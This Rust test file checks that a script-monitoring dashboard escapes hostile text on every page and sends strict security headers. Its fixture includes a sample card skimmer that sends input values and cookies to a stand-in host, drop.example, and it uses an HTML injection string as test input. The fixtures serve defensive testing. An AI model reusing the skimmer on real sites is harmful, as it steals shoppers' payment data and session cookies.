//! What is shown: hostile text runs nowhere, and every page has its policy.

use super::{HOSTILE, is_escaped};
use crate::door::{Browser, Door, form, now, see};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use monitor::Observation;
use service::{FeedState, Scope};

/// What a crawler that follows every link of the site's pages would see.
async fn crawl(browser: &Browser<'_>, start: &str) -> Vec<(String, String)> {
    let (mut pages, mut waiting) = (Vec::<(String, String)>::new(), vec![start.to_owned()]);
    while let Some(path) = waiting.pop() {
        if pages.iter().any(|(known, _)| *known == path) || pages.len() > 200 {
            continue;
        }
        let answer = browser.get(&path).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
        let here = path.split('?').next().unwrap().to_owned();
        let links = answer.text.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        for link in links.filter(|link| !link.starts_with('#')) {
            let link = link.replace("&#38;", "&").replace("&amp;", "&");
            assert!(link.starts_with('/') || link.starts_with('?'), "{path} leads to {link}");
            waiting.push(if link.starts_with('?') { format!("{here}{link}") } else { link });
        }
        pages.push((path, answer.text));
    }
    pages
}

/// A site whose every text is hostile.
async fn hostile_site(door: &Door) {
    door.site("shop", |monitor| {
        let url = format!("https://cdn.example/{HOSTILE}.js");
        let page = format!("https://shop.example/{HOSTILE}");
        let theft = format!(
            "// {HOSTILE}\nvar cards = document.querySelectorAll('input');\nsetInterval(function () {{ \
             new Image().src = 'https://drop.example/?{}' + btoa(cards[0].value + document.cookie); }}, 900);\n",
            "<b id=pwned onclick=x>"
        );
        see(monitor, &url, &page, Some(&theft));
        monitor.observe(&Observation::script(url.as_str()).on_page(page.as_str()).with_source(format!("{theft}\nmore({HOSTILE:?})")), now()).unwrap();
        monitor.observe(&Observation::connection("wss://chat.example/").on_page(page.as_str()), now()).unwrap();
    })
    .await;
    let mut feed = FeedState::new(HOSTILE);
    feed.problem = Some(HOSTILE.to_owned());
    feed.fetched_at = Some(now());
    door.service.feeds().replace(vec![feed]);
    let token = door.service.tokens().add(HOSTILE, &Scope::ALL, None).unwrap().1;
    let browser = door.login(&token).await;
    let csrf = browser.csrf().await;
    let hash = door.get("/api/v1/sites/shop/resources/1").await.json()["hash"].as_str().unwrap().to_owned();
    for (path, fields) in [
        (
            "justify",
            vec![
                ("justification", HOSTILE),
                ("approve", "true"),
                ("hash", &hash),
                ("owner", HOSTILE),
                ("purpose", HOSTILE),
                ("review_by", "2999-12-01"),
            ],
        ),
        ("mute", vec![("reason", HOSTILE), ("days", "7")]),
    ] {
        let fields: Vec<_> = fields.into_iter().chain([("csrf", csrf.as_str())]).collect();
        let answer = browser.post(&format!("/sites/shop/resources/1/{path}"), &fields).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.text);
    }
}

#[tokio::test]
async fn hostile_text_runs_nowhere() {
    let door = Door::open();
    hostile_site(&door).await;
    let browser = door.login(&door.token).await;
    let mut pages = crawl(&browser, "/").await;
    let has = |part: &str| pages.iter().any(|(path, _)| path.contains(part));
    for part in [
        "/scripts",
        "/connections",
        "/cookies",
        "/payment",
        "/resources/1",
        "/code/",
        "/diff/",
        "/alerts",
        "/policies",
        "/changes",
        "/tokens",
        "/settings",
        "/feeds",
        "/static/",
    ] {
        assert!(
            has(part),
            "no page {part} among {:?}",
            pages.iter().map(|(path, _)| path).collect::<Vec<_>>()
        );
    }
    let resource = pages.iter().find(|(path, _)| path == "/sites/shop/resources/1").unwrap();
    for shown in [
        "<mark>",
        "id=pwned",
        "approved",
        "Muted",
        "what changed",
        "Evidence in the code",
        "Review by 2999-12-01",
    ] {
        assert!(resource.1.contains(shown), "{shown}: {}", resource.1);
    }
    let hostile = form(&[("url", HOSTILE), ("host", HOSTILE), ("page", HOSTILE), ("from", "2026-01-01")]);
    pages.push(("filter".into(), browser.get(&format!("/sites/shop/scripts?{hostile}")).await.text));
    let csrf = browser.csrf().await;
    let scan = browser.post("/scan", &[("csrf", &csrf), ("text", HOSTILE), ("url", HOSTILE)]).await;
    assert_eq!(scan.status, StatusCode::OK, "{}", scan.text);
    pages.push(("scan".into(), scan.text));
    let next = form(&[("next", HOSTILE)]);
    let login = door.send(Request::get(format!("/login?{next}")).body(Body::empty()).unwrap()).await;
    pages.push(("login".into(), login.text));
    for (page, path) in
        [("policies", "/sites/shop/policies?page=*"), ("no match", "/sites/shop/policies?page=nowhere")]
    {
        pages.push((page.into(), browser.get(path).await.text));
    }
    let (_, suggested) = pages.iter().find(|(page, _)| page == "policies").unwrap();
    for shown in ["Suggested policy", "of the last 30 days", "wss://chat.example", "Save this policy"] {
        assert!(suggested.contains(shown), "{shown}: {suggested}");
    }
    let fields = [
        ("csrf", csrf.as_str()),
        ("action", "log"),
        ("description", HOSTILE),
        ("expression", "http.request.uri.path contains \"<b id=pwned onclick=x>\""),
        ("value", "script-src 'self'"),
    ];
    let kept = browser.post("/sites/shop/policies", &fields).await;
    assert_eq!(kept.header("location"), "/sites/shop/policies?done=policy_added", "{}", kept.text);
    pages.push(("kept policies".into(), browser.get(kept.header("location")).await.text));
    pages.push(("alerts".into(), browser.get("/sites/shop/alerts?all=true").await.text));
    let wrong = browser.post("/tokens", &[("csrf", &csrf), ("name", "n"), ("scope", HOSTILE)]).await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    pages.push(("refused".into(), wrong.text));
    for (path, html) in &pages {
        if path.starts_with("/static/") || path.contains(".csv") {
            continue;
        }
        assert!(is_escaped(html), "{path}: {html}");
        // Nothing is in a page that the policy would have to allow.
        for inline in ["<style", " style=", "javascript:", "<script>"] {
            assert!(!html.contains(inline), "{path} has {inline}");
        }
    }
    assert!(
        pages.iter().any(|(_, html)| html.contains("&#60;b id=pwned") || html.contains("&lt;b id=pwned"))
    );
}

#[tokio::test]
async fn every_page_has_its_policy_and_its_files() {
    let door = Door::open();
    door.site("shop", |monitor| see(monitor, "https://cdn.example/a.js", "https://shop.example/", None))
        .await;
    let browser = door.login(&door.token).await;
    for path in ["/", "/login", "/sites/shop/scripts", "/sites/absent/scripts", "/tokens"] {
        let answer = browser.get(path).await;
        let policy = answer.header("content-security-policy");
        assert!(
            policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'"),
            "{path}: {policy}"
        );
        assert!(!policy.contains("unsafe") && policy.contains("frame-ancestors 'none'"));
        for (name, value) in [
            ("x-content-type-options", "nosniff"),
            ("referrer-policy", "no-referrer"),
            ("cache-control", "no-store"),
            ("x-frame-options", "DENY"),
        ] {
            assert_eq!(answer.header(name), value, "{path}");
        }
    }
    let html = browser.get("/").await.text;
    for (marker, kind) in [("stylesheet\" href=\"", "text/css"), ("<script src=\"", "text/javascript")] {
        let path = html.split(marker).nth(1).unwrap().split('"').next().unwrap();
        let file = browser.get(path).await;
        assert!(file.header("content-type").starts_with(kind), "{path}");
        assert!(file.header("cache-control").contains("immutable") && !file.text.is_empty());
    }
}
